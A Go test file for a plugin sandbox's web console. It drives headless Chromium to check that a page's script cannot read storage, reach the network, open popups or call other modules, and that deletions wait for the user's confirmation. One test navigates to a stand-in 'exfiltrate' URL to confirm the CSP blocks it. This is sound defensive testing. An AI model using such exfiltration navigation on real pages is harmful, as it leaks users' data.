package server_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/moat-sandbox/moat/internal/testenv"
	"github.com/moat-sandbox/moat/internal/testwasm"
	"github.com/moat-sandbox/moat/server"
)

// pageBrowser drives headless Chromium through the console's pages: a
// tab per person, the page's frame reached through an isolated world (the
// page's document, none of its script's globals).
type pageBrowser struct {
	t       *testing.T
	ts      *testServer
	actx    context.Context
	browser context.Context
}

func newPageBrowser(t *testing.T, ts *testServer) *pageBrowser {
	bin := chromium(t)
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(bin), chromedp.Flag("headless", true), chromedp.Flag("no-sandbox", true), chromedp.Flag("disable-gpu", true),
		chromedp.Flag("no-first-run", true), chromedp.Flag("disable-background-networking", true), chromedp.UserDataDir(profileDir(t)),
		// The page's frame in the console's process, where the test's
		// isolated world can reach its document (the sandbox and the
		// policies are the same either way).
		chromedp.Flag("disable-features", "IsolateSandboxedIframes,site-per-process"), chromedp.Flag("disable-site-isolation-trials", true),
		chromedp.WindowSize(1280, 1000),
	}
	ctx, cancel := context.WithTimeout(context.Background(), 180*time.Second)
	t.Cleanup(cancel)
	actx, acancel := chromedp.NewExecAllocator(ctx, opts...)
	t.Cleanup(acancel)
	return &pageBrowser{t: t, ts: ts, actx: actx, browser: actx}
}

// open signs in as key in a new tab (of the one browser: the first tab
// starts it) and opens the page of module through the module's button;
// it returns the tab and how many pages the menu lists.
func (b *pageBrowser) open(key, module, name string) (context.Context, int) {
	t := b.t
	t.Helper()
	tab, _ := chromedp.NewContext(b.browser)
	if b.browser == b.actx {
		b.browser = tab
	}
	var pages int
	var perModule bool
	err := chromedp.Run(tab,
		recordCSPViolations(),
		chromedp.Navigate(b.ts.URL+"/"),
		chromedp.WaitVisible("#api-key", chromedp.ByQuery),
		chromedp.SendKeys("#api-key", key, chromedp.ByQuery),
		chromedp.Click("#sign-in", chromedp.ByQuery),
		chromedp.WaitReady(`#page-menu li[data-page="`+name+`"]`, chromedp.ByQuery),
		chromedp.Evaluate(`document.querySelectorAll("#page-menu li").length`, &pages),
		chromedp.Evaluate(`(() => { document.querySelector('#modules li[data-name="`+module+`"]').click();
			return !!document.querySelector('#module-page-links button[data-page="`+name+`"]'); })()`, &perModule),
		chromedp.Evaluate(`document.querySelector('#module-page-links button[data-page="`+name+`"]').click()`, nil),
		chromedp.WaitVisible("iframe.page-frame", chromedp.ByQuery),
	)
	if err != nil {
		t.Fatalf("console: %v", err)
	}
	if !perModule {
		t.Errorf("module %s shows no button for its page %s", module, name)
	}
	return tab, pages
}

// inPage evaluates expr in the page's frame, once it has loaded.
func (b *pageBrowser) inPage(tab context.Context, expr string, out any) {
	t := b.t
	t.Helper()
	var err error
	for range 100 {
		if err = b.tryInPage(tab, expr, out); !errors.Is(err, errNoPageFrame) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if err != nil {
		t.Fatal(err)
	}
}

var errNoPageFrame = errors.New("no page frame (yet)")

func (b *pageBrowser) tryInPage(tab context.Context, expr string, out any) error {
	return chromedp.Run(tab, chromedp.ActionFunc(func(ctx context.Context) error {
		tree, err := page.GetFrameTree().Do(ctx)
		if err != nil {
			return err
		}
		for _, ch := range tree.ChildFrames {
			if !strings.Contains(ch.Frame.URL, "/v1/pages/") {
				continue
			}
			world, err := page.CreateIsolatedWorld(ch.Frame.ID).Do(ctx)
			if err != nil {
				return err
			}
			res, exc, err := runtime.Evaluate(expr).WithContextID(world).WithReturnByValue(true).WithAwaitPromise(true).Do(ctx)
			if err != nil {
				return err
			}
			if exc != nil {
				return fmt.Errorf("%s: %s", expr, exc.Text)
			}
			if out == nil {
				return nil
			}
			return json.Unmarshal(res.Value, out)
		}
		return errNoPageFrame
	}))
}

// waitPage polls expr in the page until it is true.
func (b *pageBrowser) waitPage(tab context.Context, what, expr string) {
	t := b.t
	t.Helper()
	for range 200 {
		var ok bool
		b.inPage(tab, expr, &ok)
		if ok {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	var html string
	b.inPage(tab, "document.body.innerHTML", &html)
	t.Fatalf("the page never showed %s: %s", what, html)
}

// confirm waits for the console's confirmation dialog and returns its
// text; yes clicks Confirm, else Cancel.
func (b *pageBrowser) confirm(tab context.Context, yes bool) string {
	b.t.Helper()
	var text string
	button := "#page-confirm-no"
	if yes {
		button = "#page-confirm-yes"
	}
	if err := chromedp.Run(tab,
		chromedp.Poll(`document.querySelector("#page-confirm").open`, nil, chromedp.WithPollingTimeout(30*time.Second)),
		chromedp.Text("#page-confirm-text", &text, chromedp.ByQuery),
		chromedp.Click(button, chromedp.ByQuery),
	); err != nil {
		b.t.Fatalf("the console shows no confirmation: %v", err)
	}
	return text
}

// TestPagesInChromium opens the notebook's page in the console in
// headless Chromium, as ann and as bob: the page lists and adds each
// one's own notes through the bridge; its script cannot read the
// console's storage or document, reach the network, open a popup,
// navigate the top window or call another module's action; and the
// confirmation its action needs is shown by the console, the action
// running only once the person confirms.
func TestPagesInChromium(t *testing.T) {
	testenv.Slow(t, "Chromium opens the page as two users, about 10 s")
	ts := startPages(t)
	ann := ts.key(t, "acme", "ann", "user")
	bob := ts.key(t, "acme", "bob", "user")
	uploadJS(t, ts, ts.key(t, "acme", "root", "admin"), "") // hello-js: another module, with an action greet
	b := newPageBrowser(t, ts)
	open := func(key string) context.Context {
		tab, pages := b.open(key, "notebook", "notes")
		if pages != 1 {
			t.Errorf("the menu lists %d pages; want 1 (not the admins' page)", pages)
		}
		return tab
	}
	inPage, waitPage := b.inPage, b.waitPage
	listed := func(tab context.Context) string {
		var s string
		inPage(tab, `[...document.querySelectorAll("#list li")].map((li) => li.textContent).join(",")`, &s)
		return s
	}

	// Ann: adds a note through the page.
	annTab := open(ann)
	waitPage(annTab, "its probe", `document.querySelector("#probe").textContent !== ""`)
	inPage(annTab, `document.querySelector("#title").value = "ann's note"; document.querySelector("#add").click()`, nil)
	waitPage(annTab, "ann's note", `document.querySelector("#list").textContent.includes("ann's note")`)

	// What a hostile script tried.
	var probeText string
	inPage(annTab, `document.querySelector("#probe").textContent`, &probeText)
	var probe map[string]string
	if err := json.Unmarshal([]byte(probeText), &probe); err != nil {
		t.Fatalf("probe %q: %v", probeText, err)
	}
	t.Logf("the page's probe: %v", probe)
	for k, want := range map[string]string{"storage": "blocked", "parentStorage": "blocked", "parentDocument": "blocked", "cookie": "blocked", "fetch": "blocked",
		"badAction": "invalid_argument", "media": "shown", "flood": "bounded"} {
		if probe[k] != want {
			t.Errorf("the page's %s: %q; want %q (probe %v)", k, probe[k], want, probe)
		}
	}
	if probe["popup"] == "opened" {
		t.Errorf("the page opened a popup (probe %v)", probe)
	}
	if probe["otherAction"] == "ran" || probe["otherAction"] == "" {
		t.Errorf("the page called greet, an action of another module: %q", probe["otherAction"])
	}
	time.Sleep(300 * time.Millisecond)
	var where string
	var violations []string
	if err := chromedp.Run(annTab, chromedp.Evaluate(`location.pathname`, &where), chromedp.Evaluate(`window.violations`, &violations)); err != nil {
		t.Fatal(err)
	}
	if where != "/" {
		t.Errorf("the page navigated the console's window to %s", where)
	}
	if len(violations) > 0 {
		t.Errorf("the console breaks its CSP: %v", violations)
	}
	r := ts.do(t, "GET", "/v1/audit?module=hello-js&kind=invocation", ann, nil)
	if strings.Contains(string(r.body), `"action":"greet"`) {
		t.Errorf("another module's action ran for the page: %s", r.body)
	}

	// The wipe needs a confirmation: the console shows it, and the
	// action runs only once ann confirms.
	inPage(annTab, `document.querySelector("#wipe").click()`, nil)
	var text string
	if err := chromedp.Run(annTab,
		chromedp.Poll(`document.querySelector("#page-confirm").open`, nil, chromedp.WithPollingTimeout(20*time.Second)),
		chromedp.Text("#page-confirm-text", &text, chromedp.ByQuery),
	); err != nil {
		t.Fatalf("the console shows no confirmation: %v", err)
	}
	if !strings.Contains(text, "wipe") {
		t.Errorf("the confirmation says %q; want the server's summary of wipe", text)
	}
	if wiped(t, ts, ann) {
		t.Fatal("wipe ran before ann confirmed")
	}
	if err := chromedp.Run(annTab, chromedp.Click("#page-confirm-yes", chromedp.ByQuery)); err != nil {
		t.Fatal(err)
	}
	waitPage(annTab, "the wipe's answer", `document.querySelector("#status").textContent === "wiped"`)
	if !wiped(t, ts, ann) {
		t.Error("the audit trail has no wipe after ann confirmed")
	}

	// Bob: sees only his own notes.
	bobTab := open(bob)
	waitPage(bobTab, "its probe", `document.querySelector("#probe").textContent !== ""`)
	if got := listed(bobTab); got != "" {
		t.Errorf("bob's page lists %q; want none of ann's notes", got)
	}
	inPage(bobTab, `document.querySelector("#title").value = "bob's note"; document.querySelector("#add").click()`, nil)
	waitPage(bobTab, "bob's note", `document.querySelector("#list").textContent.includes("bob's note")`)
	if got := listed(bobTab); got != "bob's note" {
		t.Errorf("bob's page lists %q; want only his note", got)
	}

	// The page navigating its own frame to another site: the console's
	// CSP (frame-src, by default-src 'self') refuses it.
	inPage(bobTab, `location.href = "http://198.51.100.7/exfiltrate?data=x"`, nil)
	time.Sleep(time.Second)
	var frameSrc []string
	if err := chromedp.Run(bobTab, chromedp.Evaluate(`window.violations.filter((v) => v.startsWith("frame-src"))`, &frameSrc)); err != nil {
		t.Fatal(err)
	}
	t.Logf("frame-src violations: %v", frameSrc)
	if len(frameSrc) == 0 {
		t.Error("the page's frame navigated to another site without the console's frame-src refusing it")
	}
}

// wiped reports whether the notebook's wipe ran for the user of key (an
// invocation that ended ok).
func wiped(t *testing.T, ts *testServer, key string) bool {
	t.Helper()
	r := ts.do(t, "GET", "/v1/audit?module=notebook&kind=invocation", key, nil)
	if r.status != http.StatusOK {
		t.Fatalf("audit: %d %s", r.status, r.body)
	}
	var trail struct{ Events []server.AuditEventJSON }
	json.Unmarshal(r.body, &trail)
	for _, e := range trail.Events {
		if e.Action == "wipe" && e.Code == "ok" {
			return true
		}
	}
	return false
}

// TestNotesPageInChromium drives examples/notes/python's page as ann and
// bob: it adds and lists each one's notes, searches them, and deletes one
// only after the person confirms in the console (a cancel keeps it).
func TestNotesPageInChromium(t *testing.T) {
	testenv.Slow(t, "the notes plugin in CPython and Chromium, about 20 s")
	prof := filepath.Join(testwasm.RepoRoot(t), "examples", "notes", "profile.yaml")
	ts := start(t, "", func(c *server.Config) { c.Profile = prof })
	admin := ts.key(t, "acme", "root", "admin")
	if r := ts.do(t, "POST", "/v1/modules", admin, scriptArchive(t, "notes/python", nil), "Content-Type", "application/gzip"); r.status != http.StatusCreated {
		t.Fatalf("upload notes-python: %d %s", r.status, r.body)
	}
	ann, bob := ts.key(t, "acme", "ann", "user"), ts.key(t, "acme", "bob", "user")
	b := newPageBrowser(t, ts)
	count := func(tab context.Context) int {
		var n int
		b.inPage(tab, `document.querySelectorAll("#notes li").length`, &n)
		return n
	}
	add := func(tab context.Context, title string) {
		t.Helper()
		b.inPage(tab, `document.querySelector("#title").value = `+strconvQuote(title)+`; document.querySelector("#add").click()`, nil)
		b.waitPage(tab, title, `document.querySelector("#notes").textContent.includes(`+strconvQuote(title)+`)`)
	}
	deleteButton := func(title string) string {
		return `[...document.querySelectorAll("#notes li")].find((li) => li.textContent.includes(` + strconvQuote(title) + `)).querySelector(".delete").click()`
	}

	annTab, _ := b.open(ann, "notes-python", "notes")
	b.waitPage(annTab, "who is signed in", `document.querySelector("#who").textContent.includes("ann@acme")`)
	add(annTab, "call the dentist")
	add(annTab, "buy milk")

	b.inPage(annTab, `document.querySelector("#q").value = "dentist"; document.querySelector("#search").click()`, nil)
	b.waitPage(annTab, "the search's one hit", `document.querySelectorAll("#notes li").length === 1 && document.querySelector("#notes").textContent.includes("dentist")`)
	b.inPage(annTab, `document.querySelector("#clear").click()`, nil)
	b.waitPage(annTab, "both notes again", `document.querySelectorAll("#notes li").length === 2`)

	b.inPage(annTab, deleteButton("buy milk"), nil)
	if text := b.confirm(annTab, false); !strings.Contains(text, "buy milk") {
		t.Errorf("the console's confirmation says %q; want the note's title", text)
	}
	time.Sleep(500 * time.Millisecond)
	if n := count(annTab); n != 2 {
		t.Errorf("after a cancelled delete the page lists %d notes; want 2", n)
	}
	if err := chromedp.Run(annTab, viewportShot(t, "console-page-notes.png")); err != nil {
		t.Fatal(err)
	}
	b.inPage(annTab, deleteButton("buy milk"), nil)
	if err := chromedp.Run(annTab, chromedp.Poll(`document.querySelector("#page-confirm").open`, nil, chromedp.WithPollingTimeout(30*time.Second)),
		viewportShot(t, "console-page-confirm.png")); err != nil {
		t.Fatal(err)
	}
	b.confirm(annTab, true)
	b.waitPage(annTab, "the note deleted", `!document.querySelector("#notes").textContent.includes("buy milk")`)

	bobTab, _ := b.open(bob, "notes-python", "notes")
	b.waitPage(bobTab, "bob's empty list", `document.querySelector("#who").textContent.includes("bob@acme") && !document.querySelector("#empty").hidden`)
	add(bobTab, "bob's own")
	var listed string
	b.inPage(bobTab, `document.querySelector("#notes").textContent`, &listed)
	if strings.Contains(listed, "dentist") || !strings.Contains(listed, "bob's own") {
		t.Errorf("bob's page lists %q; want only his note", listed)
	}
}

func strconvQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// viewportShot saves what the window shows (a full-page capture renders
// the page's frame blank).
func viewportShot(t *testing.T, name string) chromedp.Action {
	return chromedp.ActionFunc(func(ctx context.Context) error {
		var png []byte
		if err := chromedp.CaptureScreenshot(&png).Do(ctx); err != nil {
			return err
		}
		p := filepath.Join(t.ArtifactDir(), name)
		t.Logf("screenshot: %s", p)
		return os.WriteFile(p, png, 0o644)
	})
}
